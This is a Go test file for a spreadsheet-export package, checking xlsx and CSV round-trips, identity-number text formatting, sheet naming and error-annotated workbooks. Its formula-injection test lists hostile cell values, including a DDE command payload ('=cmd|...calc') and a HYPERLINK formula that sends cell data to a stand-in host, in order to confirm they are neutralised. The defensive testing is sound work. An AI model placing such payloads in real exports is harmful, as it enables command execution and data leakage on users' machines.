package sheet_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"io"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
	"github.com/xuri/excelize/v2"
	"pgregory.net/rapid"

	"shouwang/platform/sheet"
)

// written makes a workbook whose first column every reader takes for a name.
func written(t interface{ Fatal(...any) }, rows [][]sheet.Cell) []byte {
	var b bytes.Buffer
	w, err := sheet.NewWriter(&b, sheet.Properties{Title: "名册", Watermark: "罗主任 2026-11-23"})
	if err == nil {
		err = w.Sheet("名单", []sheet.Heading{{Name: "姓名"}, {Name: "身份证号", Text: true, Width: 22}, {Name: "备注"}})
	}
	for _, r := range rows {
		if err == nil {
			err = w.Row(r...)
		}
	}
	if err == nil {
		err = w.Close()
	}
	if err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func anyText(t *rapid.T, label string) string {
	return rapid.OneOf(
		rapid.StringOfN(rapid.RuneFrom([]rune("=+-@＝＋'\t\r\n \u200b\ufeff_x0D5F邓秋禾\"<>&,;01.eE—㛃𬭚")), 1, 20, -1),
		rapid.StringMatching(`(_x[0-9ABCEF][0-9A-F]{3}_){1,3}`),
		rapid.SampledFrom([]string{"500235201203040015", "-12.5", "+8613900000001", "—", "'", "''=1", "TRUE", "007"}),
	).Draw(t, label)
}

func anyCell(t *rapid.T) sheet.Cell {
	switch rapid.IntRange(0, 3).Draw(t, "kind") {
	case 0:
		return sheet.Cell{}
	case 1:
		return sheet.NumberCell(rapid.OneOf(
			rapid.Map(rapid.Int64Range(-1e15, 1e15), func(n int64) float64 { return float64(n) }),
			rapid.Map(rapid.IntRange(-1e9, 1e9), func(n int) float64 { return float64(n) / 100 })).Draw(t, "number"))
	case 2:
		day := rapid.IntRange(61, 73000).Draw(t, "day")
		second := rapid.SampledFrom([]int{0, 0, 1, 43200, 86399}).Draw(t, "second")
		return sheet.DateCell(time.Date(1899, 12, 30, 0, 0, second, 0, time.UTC).AddDate(0, 0, day))
	}
	return sheet.TextCell(anyText(t, "text"))
}

func TestWriter_WhatWasWrittenIsWhatIsRead(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		var want [][]sheet.Cell
		for range rapid.IntRange(1, 5).Draw(t, "rows") {
			want = append(want, []sheet.Cell{sheet.TextCell("邓秋禾"), anyCell(t), anyCell(t)})
		}
		data := written(t, want)
		b, err := sheet.Open(bytes.NewReader(data), int64(len(data)), sheet.Limits{})
		if err != nil {
			t.Fatal(err)
		}
		list, err := b.Tables(dictionary())
		if err != nil {
			t.Fatal(err)
		}
		var got [][]sheet.Cell
		for r, err := range list[0].Rows() {
			if err != nil {
				t.Fatal(err)
			}
			got = append(got, []sheet.Cell{r.Column(1), r.Column(2), r.Column(3)})
		}
		// A moment's serial is kept to fifteen digits, as Excel does.
		if diff := cmp.Diff(want, got, cmpopts.EquateApprox(1e-14, 0)); diff != "" {
			t.Fatalf("(-want +got):\n%s", diff)
		}
	})
}

func TestWriter_TextThatLooksLikeHalfACharacterIsNotLost(t *testing.T) {
	rows, _ := collect(t, table(t, written(t, [][]sheet.Cell{{sheet.TextCell("邓秋禾"), {}, sheet.TextCell("甲_xD800_乙")}})))
	if got := strings.ReplaceAll(rows[0].Cell("remark").Text, "\u200b", ""); got != "甲_xD800_乙" {
		t.Fatalf("got %q", got)
	}
}

func TestCSVWriter_WhatWasWrittenIsWhatIsRead(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		// encoding/csv reads \r\n as \n, as the format has it.
		text := strings.ReplaceAll(anyText(t, "text"), "\r", "")
		var b bytes.Buffer
		w := sheet.NewCSVWriter(&b)
		for _, row := range [][]string{{"姓名", "备注", "性别"}, {"邓秋禾", text, "女"}} {
			var cells []sheet.Cell
			for _, s := range row {
				cells = append(cells, sheet.TextCell(s))
			}
			if err := w.Row(cells...); err != nil {
				t.Fatal(err)
			}
		}
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
		book, err := sheet.Open(bytes.NewReader(b.Bytes()), int64(b.Len()), sheet.Limits{})
		if err != nil {
			t.Fatal(err)
		}
		list, err := book.Tables(dictionary())
		if err != nil {
			t.Fatal(err)
		}
		for r, err := range list[0].Rows() {
			if err != nil || r.Cell("remark").Text != text {
				t.Fatalf("%v: wrote %q, read %q", err, text, r.Cell("remark").Text)
			}
		}
	})
}

func TestWriters_NothingTypedBecomesAFormula(t *testing.T) {
	tests := []struct {
		text  string
		risky bool
	}{
		{"=1+1", true}, {"+1+1", true}, {"-1+1", true}, {"@SUM(A1)", true},
		{"\t=1", true}, {"\r=1", true}, {"\n=1", true}, {"\t1", true}, {"  =1", true}, {"\u00a0=1", true}, {"\u3000=1", true},
		{"\u200b=1", true}, {"\ufeff=1", true}, {"\u2060=1", true}, {"\u00ad=1", true}, {"\ufe0f=1", true}, {"\u202e=1", true}, {"\u3164=1", true},
		{"＝1", true}, {"＋1", true}, {"－1", true}, {"＠1", true}, {"﹣1", true}, {"−1", true}, {"'=1", true},
		{"'\t", true}, {"''=1", true}, {"'邓", false},
		{"=cmd|' /C calc'!A0", true}, {`=HYPERLINK("http://x/?"&A1)`, true}, {"+8613900000001", true}, {"-", true}, {"-2-3", true},
		{"-12.5", false}, {"邓秋禾", false}, {"500235201203040015", false}, {"—", false}, {"a=1", false}, {"父亲：在外", false}, {"", false}, {"   ", false},
	}
	for _, tt := range tests {
		var b bytes.Buffer
		w := sheet.NewCSVWriter(&b)
		must(t, w.Row(sheet.TextCell(tt.text), sheet.TextCell("x")))
		must(t, w.Close())
		record, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(b.String(), "\ufeff"))).Read()
		must(t, err)
		if got := strings.HasPrefix(record[0], "'") && len(record[0]) > len(tt.text); got != tt.risky {
			t.Errorf("CSV of %q is %q", tt.text, record[0])
		}
		f, err := excelize.OpenReader(bytes.NewReader(written(t, [][]sheet.Cell{{sheet.TextCell("邓秋禾"), {}, sheet.TextCell(tt.text)}})))
		must(t, err)
		value, err := f.GetCellValue("名单", "C2")
		must(t, err)
		formula, err := f.GetCellFormula("名单", "C2")
		must(t, err)
		if got := value == "'"+tt.text; got != tt.risky || formula != "" {
			t.Errorf("xlsx of %q is %q, formula %q", tt.text, value, formula)
		}
		must(t, f.Close())
	}
}

func TestWriter_NumbersStayNumbersAndIdentityNumbersText(t *testing.T) {
	data := written(t, [][]sheet.Cell{{sheet.TextCell("邓秋禾"), sheet.TextCell("500235201203040015"), sheet.NumberCell(-7.5)}})
	f, err := excelize.OpenReader(bytes.NewReader(data))
	must(t, err)
	defer f.Close()
	kind, err := f.GetCellType("名单", "C2")
	must(t, err)
	value, err := f.GetCellValue("名单", "C2")
	must(t, err)
	if kind != excelize.CellTypeNumber && kind != excelize.CellTypeUnset || value != "-7.5" {
		t.Fatalf("a number became %v %q", kind, value)
	}
	style, err := f.GetColStyle("名单", "B")
	must(t, err)
	s, err := f.GetStyle(style)
	must(t, err)
	if s.NumFmt != 49 {
		t.Fatalf("what is typed into the identity column is not text: format %d", s.NumFmt)
	}
	panes, err := f.GetPanes("名单")
	must(t, err)
	if !panes.Freeze || panes.YSplit != 1 {
		t.Fatalf("the header scrolls away: %+v", panes)
	}
	props, err := f.GetDocProps()
	must(t, err)
	if props.Description != "罗主任 2026-11-23" {
		t.Fatalf("watermark %q", props.Description)
	}
}

func TestWriter_SheetNamesAreMadeToFit(t *testing.T) {
	var b bytes.Buffer
	w, err := sheet.NewWriter(&b, sheet.Properties{})
	must(t, err)
	long := strings.Repeat("石榴村", 20)
	for _, name := range []string{long, long, "一/二:三", "", "abc", "ABC"} {
		must(t, w.Sheet(name, []sheet.Heading{{Name: "姓名"}}))
		must(t, w.Row(sheet.TextCell("邓秋禾")))
	}
	must(t, w.Close())
	seen := map[string]bool{}
	for _, s := range open(t, b.Bytes()).Sheets() {
		if seen[strings.ToLower(s.Name)] || len([]rune(s.Name)) > 31 || s.Name == "" {
			t.Fatalf("%q", s.Name)
		}
		seen[strings.ToLower(s.Name)] = true
	}
	if len(seen) != 6 {
		t.Fatalf("%d sheets", len(seen))
	}
}

func TestWriter_AFailureIsNotForgotten(t *testing.T) {
	w, err := sheet.NewWriter(io.Discard, sheet.Properties{})
	must(t, err)
	if w.Row(sheet.TextCell("x")) == nil || w.Close() == nil {
		t.Fatal("a row before any sheet went unnoticed")
	}
	w, err = sheet.NewWriter(io.Discard, sheet.Properties{})
	must(t, err)
	must(t, w.Sheet("名单", []sheet.Heading{{Name: "姓名"}}))
	if w.Row(sheet.TextCell(strings.Repeat("长", 40000))) == nil || w.Close() == nil {
		t.Fatal("a cell that is cut short went unnoticed")
	}
}

func TestWriteProblems_TheWorkbookComesBackWithTheSameMapping(t *testing.T) {
	source := grid(t, []string{"A1:F1", "A2:A3", "B2:B3", "C2:D2", "E2:E3", "A4:A6"},
		[]any{"石榴村花名册"}, []any{"组别", "姓名", "父亲", nil, "备注"}, []any{nil, nil, "姓名", "联系电话"},
		[]any{"1组", "邓秋禾", "邓山", 13900000001, "=1+1"}, []any{nil, "郑小满", "郑山", "13900000002"}, []any{nil, "罗青", "—", "x", nil, "住村东"})
	before := tables(t, source)
	problems := []sheet.Problem{
		{Sheet: "Sheet1", Row: 4, Column: 4, Code: "phone", Message: "电话应为文本"},
		{Sheet: "Sheet1", Row: 4, Column: 5, Code: "remark", Message: "备注看不懂"},
		{Sheet: "Sheet1", Row: 6, Code: "row", Message: "缺少身份证号"},
		{Sheet: "Sheet1", Row: 6, Column: 4, Code: "phone", Message: "电话不对"},
		{Sheet: "别的表", Row: 5, Code: "row", Message: "不相干"},
	}
	for round := range 2 { // brought back and still wrong: the same again
		var b bytes.Buffer
		must(t, sheet.WriteProblems(&b, before, problems, sheet.Properties{}))
		after := tables(t, b.Bytes())
		if len(after) != 1 || after[0].Sheet != "Sheet1" || after[0].Title != "石榴村花名册" {
			t.Fatalf("got %+v", after)
		}
		if diff := cmp.Diff(before[0].Mapping(), after[0].Mapping()); diff != "" {
			t.Fatalf("mapping (-before +after):\n%s", diff)
		}
		if before[0].Fingerprint() != after[0].Fingerprint() {
			t.Fatal("another fingerprint")
		}
		rows, _ := collect(t, after[0])
		var got []string
		for _, r := range rows {
			line := fmt.Sprint(r.Number, r.Cell("group").Text, r.Cell("name").Text, r.Cell("father.name").Text, r.Cell("father.phone").Kind, r.Cell("father.phone").Text, r.Cell("remark").Text)
			for _, e := range r.Extras() {
				line += " " + e.Header + e.Cell.Text
			}
			got = append(got, line)
		}
		want := []string{fmt.Sprint(4, "1组", "邓秋禾", "邓山", sheet.Number, "13900000001", "=1+1"), fmt.Sprint(5, "1组", "罗青", "—", sheet.Text, "x", "") + " F住村东"}
		if diff := cmp.Diff(want, got); diff != "" {
			t.Fatalf("round %d (-want +got):\n%s", round, diff)
		}
		f, err := excelize.OpenReader(&b)
		must(t, err)
		said, err := f.GetCellValue("Sheet1", "G5")
		must(t, err)
		head, err := f.GetCellValue("Sheet1", "G3")
		must(t, err)
		if wantSaid := fmt.Sprintf("原第 %d 行：缺少身份证号；电话不对", 6-round); said != wantSaid || head != sheet.ProblemHeader {
			t.Fatalf("%q under %q", said, head)
		}
		comments, err := f.GetComments("Sheet1")
		must(t, err)
		if len(comments) != 3 || comments[0].Cell != "D4" {
			t.Fatalf("comments %+v", comments)
		}
		id, err := f.GetCellStyle("Sheet1", "D4")
		must(t, err)
		if s, err := f.GetStyle(id); err != nil || len(s.Fill.Color) == 0 {
			t.Fatalf("not coloured: %+v %v", s, err)
		}
		must(t, f.Close())
		before = after
		for i := range problems {
			if problems[i].Row == 6 {
				problems[i].Row = 5
			}
		}
	}
}

func TestWriteProblems_ATableWithoutHeaderGetsOne(t *testing.T) {
	source := grid(t, nil, []any{"邓秋禾", "500235201203040015"}, []any{"郑小满", "500235201203040023"}, []any{"罗青", "500235201203040031"})
	before := tables(t, source)
	var b bytes.Buffer
	must(t, sheet.WriteProblems(&b, before, []sheet.Problem{{Sheet: "Sheet1", Row: 2, Message: "重复"}}, sheet.Properties{}))
	after := table(t, b.Bytes())
	if diff := cmp.Diff(before[0].Mapping(), after.Mapping()); diff != "" {
		t.Fatal(diff)
	}
	if rows, _ := collect(t, after); len(rows) != 1 || rows[0].Cell("id").Text != "500235201203040023" {
		t.Fatalf("got %+v", rows)
	}
}

func TestWriteProblems_NothingWrongIsSaidToo(t *testing.T) {
	var b bytes.Buffer
	must(t, sheet.WriteProblems(&b, nil, nil, sheet.Properties{}))
	if got := tables(t, b.Bytes())[0].None; got == "" {
		t.Fatal("a table of nothing")
	}
}
